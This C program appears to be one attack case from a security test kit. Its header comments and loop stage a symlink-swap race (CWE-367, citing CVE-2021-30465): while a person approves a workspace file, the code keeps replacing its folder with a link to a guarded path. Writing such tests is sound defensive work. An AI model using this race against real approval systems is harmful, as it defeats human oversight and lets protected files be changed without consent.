// tries: to have a person approve a file of the workspace, and to put a symbolic link in its folder's place meanwhile
// works: who is asked about a path sees what stands there then
// see: CWE-367; CVE-2021-30465
// goal: change
// first: mkdir -p "$WORK/asked"; echo own >"$WORK/asked/asked"; chown -R dev "$WORK/asked"; . "$KIT/attacks/approver.sh"; meanwhile approve_all "$WORK/asked/asked"
#include "../kit.h"

int main(void)
{
	const char *folder = join(env("WORK"), "/asked"), *away = join(env("WORK"), "/away");
	const char *file = join(folder, "/asked");
	time_t end = time(NULL) + 8;
	pid_t child = keep_writing(file);

	while (time(NULL) < end) {
		rename(folder, away);
		symlink(env("GUARDED"), folder);
		usleep(100000);
		unlink(folder);
		rename(away, folder);
		usleep(150000);
	}
	kill(child, SIGKILL);
	return 0;
}
